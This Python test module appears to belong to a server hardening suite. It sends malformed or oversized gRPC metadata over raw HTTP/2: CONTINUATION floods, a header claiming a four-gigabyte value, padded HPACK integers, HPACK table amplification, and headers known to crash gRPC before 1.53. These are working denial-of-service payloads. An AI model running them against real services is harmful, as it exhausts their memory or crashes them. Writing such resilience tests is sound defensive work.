"""Metadata: larger than gRPC's default limit, endless, or written so that reading it costs much.

Right: what a proxy passes on (a large cookie) fails no call of its connection. What is endless costs a bounded amount
of memory and time, and no header ends the process.
"""

import http2
import messages
from attack import Attack, Limits, Run, repeat

from server import Target

_CLASSIFY = messages.path("Classify")


def _beside_others(size: int) -> Run:
    """A call with much metadata fails none of those in flight on its connection."""

    def run(target: Target) -> list[str]:
        failed: list[str] = []
        long = messages.encode(["play some jazz music in the kitchen " * 20] * 16)
        with messages.channel(target.grpc, ("grpc.max_metadata_size", 1 << 20)) as channel:
            encode = messages.method(channel, "Encode")

            def step() -> None:
                ordinary = [encode.future(long, timeout=10) for _ in range(4)]
                large = messages.method(channel, "GetModel").future(
                    b"", timeout=10, metadata=(("x-cookie", "c" * size),)
                )
                large.exception()
                failed.extend(call.code().name for call in ordinary if call.exception() is not None)

            repeat(target, step)
        # Refused for the load is an answer; a connection that breaks is not.
        broken = [code for code in failed if code not in ("RESOURCE_EXHAUSTED", "DEADLINE_EXCEEDED")]
        return [f"{len(broken)} calls beside large metadata failed: {broken[0]}"] if broken else []

    return run


def _continuation(target: Target) -> list[str]:
    """A header block that never ends, in frames that are each allowed."""

    def step() -> None:
        with http2.Connection(target.grpc_port) as connection:
            stream = connection.headers(http2.grpc_headers(_CLASSIFY), flags=0)
            while True:
                connection.frame(http2.CONTINUATION, 0, stream, http2.literal(b"x-a", b"b" * 1000) * 16)

    repeat(target, step, threads=2)
    return []


def _empty_continuation(target: Target) -> list[str]:
    def step() -> None:
        with http2.Connection(target.grpc_port) as connection:
            stream = connection.headers(http2.grpc_headers(_CLASSIFY), flags=0)
            empty = bytes(3) + bytes([http2.CONTINUATION, 0]) + stream.to_bytes(4, "big")
            while True:
                connection.socket.sendall(empty * 1000)

    repeat(target, step, threads=2)
    return []


def _endless_value(target: Target) -> list[str]:
    """One header whose value has four gigabytes, by its own word."""

    def step() -> None:
        with http2.Connection(target.grpc_port) as connection:
            start = b"\0" + http2.string(b"x-a") + http2.integer((1 << 32) - 1, 7)
            stream = connection.headers(http2.grpc_headers(_CLASSIFY) + start, flags=0)
            while True:
                connection.frame(http2.CONTINUATION, 0, stream, b"v" * 16384)

    repeat(target, step, threads=2)
    return []


def _padded_integer(target: Target) -> list[str]:
    """A length of three, written with thousands of bytes that add nothing to it."""

    def step() -> None:
        with http2.Connection(target.grpc_port) as connection:
            padded = b"\0" + http2.string(b"x-a") + http2.integer(200, 7, padding=12_000) + b"v" * 200
            while True:
                connection.headers(http2.grpc_headers(_CLASSIFY) + padded)

    repeat(target, step, threads=2)
    return []


def _then_large(header: bytes, value: bytes) -> Run:
    """A header of the wrong value, then more than the limit of metadata: gRPC before 1.53 aborts."""

    def run(target: Target) -> list[str]:
        def step() -> None:
            for size in (9_000, 140_000, 300_000):
                with http2.Connection(target.grpc_port) as connection:
                    block = http2.grpc_headers(_CLASSIFY, (header, value))
                    stream = connection.headers(block, flags=0)
                    for at in range(0, size, 8_000):
                        flags = http2.END_HEADERS if at + 8_000 >= size else 0
                        connection.frame(http2.CONTINUATION, flags, stream, http2.literal(b"x-a", b"b" * 8_000))
                    connection.read(0.2)

        repeat(target, step)
        return []

    return run


def _hpack_table(target: Target) -> list[str]:
    """Fills the connection's table and refers to its largest entry again and again: bytes become kilobytes."""

    def step() -> None:
        with http2.Connection(target.grpc_port) as connection:
            connection.headers(http2.grpc_headers(_CLASSIFY) + http2.remembered(b"x-a", b"b" * 3_900))
            newest = http2.integer(62, 7, first=0x80)
            while True:
                connection.headers(http2.grpc_headers(_CLASSIFY) + newest * 4_000)

    repeat(target, step, threads=2)
    return []


def _bad_base64(target: Target) -> list[str]:
    """A binary header that is not base64 fails its call, not the connection's other calls."""

    def step() -> None:
        with http2.Connection(target.grpc_port) as connection:
            for _ in range(100):
                connection.call(_CLASSIFY, messages.framed(messages.classify(["a"])), (b"x-bin", b"!!!"))
            connection.read(0.5)

    repeat(target, step)
    return []


# What arrives between two looks of the server's guard is not bounded (docs/adr/0014): the figures are what is, not what
# should be.
_BETWEEN_LOOKS = Limits(peak_mb=1000)

ATTACKS = [
    Attack("metadata-8k", _beside_others(8_300)),
    Attack("metadata-60k", _beside_others(60_000), short=False),
    Attack("continuation-flood", _continuation, limits=_BETWEEN_LOOKS),
    Attack("continuation-empty", _empty_continuation, short=False),
    Attack("endless-header-value", _endless_value),
    Attack("padded-integer", _padded_integer, short=False),
    Attack("te-then-large", _then_large(b"te", b"x")),
    Attack("lb-stats-then-large", _then_large(b"grpclb_client_stats", b"x"), short=False),
    Attack("scheme-then-large", _then_large(b":scheme", b"x"), short=False),
    Attack("hpack-table", _hpack_table, short=False, limits=Limits(peak_mb=2500)),
    Attack("bad-base64", _bad_base64, short=False),
]
